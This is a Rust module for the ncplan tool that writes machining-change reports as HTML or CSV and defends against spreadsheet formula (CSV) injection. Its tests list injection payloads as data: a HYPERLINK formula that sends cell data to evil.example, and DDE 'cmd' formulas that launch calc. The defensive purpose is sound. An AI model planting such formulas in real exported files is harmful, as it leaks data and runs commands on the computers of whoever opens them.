//! `ncplan report --format html|csv`: the comparison views as one self-contained HTML file
//! (inline CSS and SVG, no script, nothing from the network, printable), or the change rows
//! as CSV.

use std::collections::BTreeMap;

use anyhow::Result;
use maud::{DOCTYPE, PreEscaped, html};

use super::compare;
use crate::config::Config;
use crate::dialect::Registry;
use crate::store::{ChangeFilter, ChangeRow, Store};

/// Which changes a report holds.
#[derive(Clone, Debug, Default)]
pub struct Filter {
    /// Detected on or after this date (`YYYY-MM-DD`).
    pub since: Option<String>,
    /// Of this machine only.
    pub machine: Option<String>,
    /// Leave out what only shows or writes text (`output_changed`).
    pub machining_only: bool,
}

/// Every change the filter lets through, oldest first.
fn rows(store: &Store, filter: &Filter) -> Result<Vec<ChangeRow>> {
    let f = ChangeFilter {
        since: filter.since.clone().unwrap_or_default(),
        machine: filter.machine.clone().unwrap_or_default(),
        ..ChangeFilter::default()
    };
    let mut rows = store.search_changes(&f, usize::MAX >> 1)?;
    if filter.machining_only {
        rows.retain(|r| r.change.is_machining());
    }
    rows.reverse();
    Ok(rows)
}

/// The HTML report: per revision with changes, its comparison (sentences by workingstep,
/// toolpath pictures, the lines around each change in both sources, its findings).
pub fn html(store: &Store, config: &Config, registry: &Registry, filter: &Filter, generated_at: &str) -> Result<String> {
    let plans = compare::Uncached(crate::daemon::ingest::Reader { config, registry });
    let mut revisions: BTreeMap<i64, ()> = BTreeMap::new();
    for r in rows(store, filter)? {
        revisions.insert(r.revision_id, ());
    }
    let mut sections = Vec::new();
    for id in revisions.keys() {
        sections.push(compare::load(store, *id, &plans)?);
    }
    let scope = match (&filter.machine, &filter.since) {
        (Some(m), Some(s)) => format!("machine {m}, since {s}"),
        (Some(m), None) => format!("machine {m}"),
        (None, Some(s)) => format!("since {s}"),
        (None, None) => "all machines".to_owned(),
    };
    let page = html! {
        (DOCTYPE)
        html lang="en" {
            head {
                meta charset="utf-8";
                title { "Shopfloor changes · ncplan" }
                style { (PreEscaped(super::CSS)) }
            }
            body {
                main {
                    h1 { "Shopfloor changes" }
                    p class="muted" { (scope) "; " (sections.len()) " revisions with changes; generated " (generated_at) "." }
                    @if sections.is_empty() { p { "No changes recorded." } }
                    @for c in &sections {
                        section class="revision card" id={"revision-" (c.edited.id)} {
                            h2 { "Machine " (c.edited.machine.as_deref().unwrap_or("?")) ", program " (c.edited.name) " (revision " (c.edited.id) ")" }
                            (compare::heading(c))
                            (compare::sentences(c, None))
                            (compare::picture_block(c, false))
                            (compare::sources(c, 300))
                            (compare::findings("Findings of the edited program", &c.texts.1, &c.findings.1))
                        }
                    }
                }
            }
        }
    };
    Ok(compare::shown(page.into_string()))
}

/// A CSV field, quoted where it must be (RFC 4180, and `;`, the separator of spreadsheets in
/// many locales). A text cell that a spreadsheet would read as a formula (one starting with
/// `=`, `+`, `-`, `@`, a tab or a carriage return: a program name, a tool name or a reviewer
/// name an operator typed) is neutralised the OWASP way: a `'` before it, and quoted. A
/// number (`-12.5`) is no formula and stays a number.
fn field(s: &str) -> String {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_number(s) {
        format!("\"'{}\"", s.replace('"', "\"\""))
    } else if s.contains([',', ';', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_owned()
    }
}

/// Whether `s` is a plain decimal number, as the report writes numbers: an optional `-`,
/// digits with at most one point, an optional exponent (`-12.5`, `3`, `1e-7`).
fn is_number(s: &str) -> bool {
    let s = s.strip_prefix('-').unwrap_or(s);
    let (mantissa, exponent) = match s.find(['e', 'E']) {
        Some(i) => (&s[..i], Some(&s[i + 1..])),
        None => (s, None),
    };
    let (int, frac) = mantissa.split_once('.').unwrap_or((mantissa, ""));
    let digits = |t: &str| t.bytes().all(|b| b.is_ascii_digit());
    !(int.is_empty() && frac.is_empty())
        && digits(int)
        && digits(frac)
        && exponent.is_none_or(|e| {
            let e = e.strip_prefix(['-', '+']).unwrap_or(e);
            !e.is_empty() && digits(e)
        })
}

/// The change rows as CSV (RFC 4180), with each change's sentence and latest review mark.
pub fn csv(store: &Store, filter: &Filter) -> Result<String> {
    let mut out = String::from(
        "machine,program,revision_id,change_id,workingstep,operation,kind,field,before,after,sentence,line,original_line,deviation,detected_at,review,reviewed_by\r\n",
    );
    for r in rows(store, filter)? {
        let c = &r.change;
        let mark = r.marks.last();
        let cells = [
            r.machine.clone(),
            r.program.clone(),
            r.revision_id.to_string(),
            r.id.to_string(),
            c.workingstep.to_string(),
            c.operation.clone(),
            c.kind.as_str().to_owned(),
            c.field.clone(),
            c.before.clone(),
            c.after.clone(),
            c.phrase(),
            c.line.map(|l| l.to_string()).unwrap_or_default(),
            c.original_line.map(|l| l.to_string()).unwrap_or_default(),
            c.deviation.map(crate::diff::num).unwrap_or_default(),
            r.detected_at.clone(),
            mark.map(|m| m.mark.clone()).unwrap_or_default(),
            mark.map(|m| m.by.clone()).unwrap_or_default(),
        ];
        out.push_str(&cells.iter().map(|c| field(c)).collect::<Vec<_>>().join(","));
        out.push_str("\r\n");
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    #[test]
    fn csv_fields_are_quoted_where_needed() {
        assert_eq!(super::field("a"), "a");
        assert_eq!(super::field("800 mm/min, 1200 mm/min"), "\"800 mm/min, 1200 mm/min\"");
        assert_eq!(super::field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(super::field("a;=1+1"), "\"a;=1+1\"", "a spreadsheet that splits on `;` keeps it one cell");
    }

    /// OWASP's CSV injection rule: a text cell starting with `=`, `+`, `-`, `@`, a tab or a
    /// carriage return gets a `'` and quotes; numbers stay numbers.
    #[test]
    fn formulas_in_text_cells_are_neutralised_and_numbers_are_not() {
        let cases = [
            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""),
            ("+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""),
            ("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\""),
            ("\t=1+1", "\"'\t=1+1\""),
            ("\r=1+1", "\"'\r=1+1\""),
            ("-", "\"'-\""),
            ("-12.5 mm", "\"'-12.5 mm\""),
            ("-1e", "\"'-1e\""),
            ("-.", "\"'-.\""),
            ("-12.5", "-12.5"),
            ("-3", "-3"),
            ("-0.125", "-0.125"),
            ("-.5", "-.5"),
            ("-1e-7", "-1e-7"),
            ("12.5", "12.5"),
            ("Z-12.5", "Z-12.5"),
            ("tool T1 renamed T8", "tool T1 renamed T8"),
        ];
        for (cell, want) in cases {
            assert_eq!(super::field(cell), want, "{cell:?}");
        }
    }
}
